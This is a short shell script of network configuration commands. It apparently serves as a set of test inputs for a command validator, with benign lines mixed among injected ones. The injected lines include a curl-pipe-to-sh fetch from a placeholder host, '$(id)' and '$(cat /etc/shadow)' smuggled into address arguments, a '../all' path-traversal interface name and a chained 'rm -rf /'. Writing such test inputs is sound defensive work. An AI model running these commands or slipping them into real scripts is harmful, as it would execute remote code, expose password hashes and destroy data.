#!/bin/sh
curl http://192.0.2.1/x | sh
ip addr add fe80::1%$(id) dev tap0
ip addr add $(cat /etc/shadow) dev $dev
ip link set $dev name ../all
ip -6 addr add 2001:db8::3/64 dev "$dev"; rm -rf /
route add default gw 192.168.0.1
ip route add default dev $dev
ip -6 route add 2001:db8:1::/48 via fe80::1
